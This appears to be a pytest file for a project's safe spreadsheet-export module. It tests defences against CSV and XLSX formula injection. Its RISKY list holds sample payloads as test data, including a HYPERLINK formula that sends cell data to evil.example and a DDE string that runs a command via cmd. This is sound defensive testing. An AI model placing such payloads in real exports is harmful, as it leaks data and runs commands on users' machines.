"""The one spreadsheet writer (:mod:`core.safe_export`): text a spreadsheet would run
is neutralised in CSV and XLSX, numbers stay numbers, and nothing else writes CSV or XLSX."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core import safe_export
from core.safe_export import Sheet

ROOT = Path(__file__).resolve().parents[2]
RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
SAFE = ["Ann Lee", "孙丽", "1.5", "a=b", "", "'quoted"]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_gets_a_quote_in_csv(text: str) -> None:
    assert safe_export.csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_export.csv_cell(text) == text


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert [safe_export.csv_cell(v) for v in (-3, -0.5, Decimal("-3.00"), None)] == [
        -3,
        -0.5,
        Decimal("-3.00"),
        "",
    ]
    body = safe_export.csv_text(["name", "points"], [["=cmd()", Decimal("-3.00")], ["Bo", -1]])
    assert list(csv.reader(io.StringIO(body))) == [
        ["name", "points"],
        ["'=cmd()", "-3.00"],
        ["Bo", "-1"],
    ]


def test_xlsx_keeps_risky_text_as_quoted_text_and_numbers_as_numbers() -> None:
    rows = [[text, -3] for text in RISKY]
    data = safe_export.xlsx_bytes([Sheet("Payroll", ("name", "points"), rows)])
    sheet = load_workbook(io.BytesIO(data))["Payroll"]
    for n, text in enumerate(RISKY, start=2):
        name, points = sheet.cell(row=n, column=1), sheet.cell(row=n, column=2)
        assert (name.value, name.data_type, name.quotePrefix) == (text, "s", True)
        assert (points.value, points.data_type) == (-3, "n")
    assert sheet.freeze_panes == "A2"


# csv.writer / DictWriter and openpyxl's Workbook are the ways to write a spreadsheet.
_WRITERS = re.compile(r"csv\.(writer|DictWriter)\b|\bWorkbook\b|xlsxwriter")
# An error message that quotes a CDR row as it was read (a terminal, not a spreadsheet).
_ALLOWED = {("collectors/cdr/rows.py", "csv.writer(buf, delimiter=dialect.delimiter")}


def test_no_spreadsheet_is_written_outside_the_one_writer() -> None:
    offenders = []
    for package in ("core", "collectors", "qa", "dashboard", "scripts", "bench"):
        for path in sorted((ROOT / package).rglob("*.py")):
            name = str(path.relative_to(ROOT))
            if name == "core/safe_export.py":
                continue
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if not _WRITERS.search(line) or line.lstrip().startswith("#"):
                    continue
                if not any(name == f and part in line for f, part in _ALLOWED):
                    offenders.append(f"{name}:{n}: {line.strip()}")
    assert offenders == [], "write CSV/XLSX with core.safe_export:\n" + "\n".join(offenders)
